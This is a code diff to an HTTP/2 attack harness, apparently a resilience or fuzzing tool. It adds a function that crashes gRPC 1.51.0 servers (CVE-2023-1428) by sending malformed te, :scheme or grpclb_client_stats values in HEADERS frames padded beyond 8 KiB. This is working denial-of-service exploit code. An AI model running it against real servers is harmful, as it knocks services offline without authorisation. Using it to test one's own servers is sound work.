@@ -5,8 +5,10 @@ from __future__ import annotations
 import struct
 
 from http2 import (
+    ACK,
     DETECT,
     END_HEADERS,
+    END_STREAM,
     HEALTH,
     MAX_FRAME,
     STREAM,
@@ -189,3 +191,30 @@ def beyond_the_window(target: Target) -> Tally:
                 connection.send(frame(Kind.DATA, 0, stream, chunk))
                 tally["bytes"] += len(chunk)
     return tally
+
+
+# What gRPC 1.51.0 is said to abort at (CVE-2023-1428), each with a header beyond 8 KiB.
+ABORTING = [("te", "x"), (":scheme", "gopher"), ("grpclb_client_stats", "x")]
+
+
+@attack("blocks")
+def aborting_headers(target: Target) -> Tally:
+    """Values of te, :scheme and grpclb_client_stats that are none, before headers too large"""
+    tally: Tally = Tally()
+    for survived in rounds(target, tally):
+        header = ABORTING[tally["rounds"] % len(ABORTING)]
+        with survived, target.connect() as connection:
+            list(connection.receive(0.2))
+            connection.send(frame(Kind.SETTINGS, ACK))  # from here on the server's limits hold
+            block = aborting_block(header, size=(9000, 16_000)[tally["rounds"] % 2])
+            connection.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, block))
+            tally["blocks"] += 1
+            list(connection.receive(0.2))
+    return tally
+
+
+def aborting_block(header: tuple[str, str], size: int) -> bytes:
+    usual = {":scheme": "http", "te": "trailers"}
+    fields = [(":path", HEALTH), (":authority", "fovea"), ("content-type", "application/grpc")]
+    fields += [*(usual | dict([header])).items(), ("x", "v" * size)]
+    return b"\x83" + b"".join(literal(name, value) for name, value in fields)
